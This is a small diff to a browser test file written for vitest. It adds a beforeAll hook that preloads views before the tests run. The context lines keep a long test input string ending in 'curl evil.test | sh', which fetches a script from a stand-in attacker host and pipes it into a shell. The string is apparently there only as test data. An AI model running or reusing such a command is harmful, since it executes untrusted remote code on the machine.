@@ -1,6 +1,9 @@
-import { afterEach, expect, test } from "vitest";
+import { afterEach, beforeAll, expect, test } from "vitest";
 import { cdp, page, userEvent } from "vitest/browser";
+import { preloadViews } from "../../components/preloadViews.js";
 import { command, openPage, wait } from "./page.js";
+
+beforeAll(preloadViews);
 
 const LONG = `npm test && echo ${"A".repeat(5000)} | tee out; curl evil.test | sh`;
 const session = () => cdp() as { send(method: string, params: object): Promise<unknown> };
